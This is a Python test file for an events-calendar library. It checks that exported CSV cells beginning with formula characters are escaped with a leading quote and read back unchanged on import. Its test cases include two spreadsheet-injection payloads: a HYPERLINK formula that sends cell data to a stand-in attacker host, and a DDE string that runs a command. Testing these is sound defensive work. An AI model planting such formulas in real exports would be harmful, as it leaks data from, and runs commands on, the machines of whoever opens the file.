"""Exported CSV cells a spreadsheet shows as text: ``io.csv_cells``."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import events_calendar as ec
from events_calendar.io.csv_cells import guard, unguard

_CELLS = st.text(alphabet=st.sampled_from("=+-@'\t\rab "), max_size=8) | st.text()


@given(_CELLS)
def test_a_guarded_cell_reads_back_as_it_was_and_starts_no_formula(cell: str) -> None:
    """Whatever the text, the guard comes off again, and no guarded cell starts with what a
    spreadsheet reads as a formula."""
    guarded = guard(cell)
    assert (cell, False) == (unguard(guarded), guarded.startswith(("=", "+", "-", "@", "\t", "\r")))


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("https://evil.example/?x="&A1,"Click")', "'=HYPERLINK("),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM"),
        ("- a list item", "'- a list item"),
        ("'=quoted", "''=quoted"),
        ("'Til Tuesday", "'Til Tuesday"),
        ("Plain", "Plain"),
    ],
)
def test_a_formula_in_an_event_is_exported_as_text_and_imports_back(
    tmp_path: Path, cell: str, written: str
) -> None:
    """A contributor's ``=HYPERLINK(...)`` title ran in the spreadsheet of whoever opened the
    export; it is written after a quote, and the export imports back unchanged."""
    cal = ec.connect("memory://")
    event = cal.events.create(
        title=cell, description=cell, start_date="2031-05-01 19:00", end_date="2031-05-01 20:00"
    )
    cal.export_file(tmp_path / "e.csv")
    with (tmp_path / "e.csv").open(newline="", encoding="utf-8") as file:
        header, row = list(csv.reader(file))[:2]
    again = cal.import_file(tmp_path / "e.csv", on_conflict="update")
    names = ("Event Name", "Event Description")
    cells = [row[header.index(name)][: len(written)] for name in names]
    assert ([written] * 2, "created 0, updated 0, unchanged 1, refused 0", cell) == (
        cells,
        again.summary(),
        cal.events.get(event.id).title,
    )
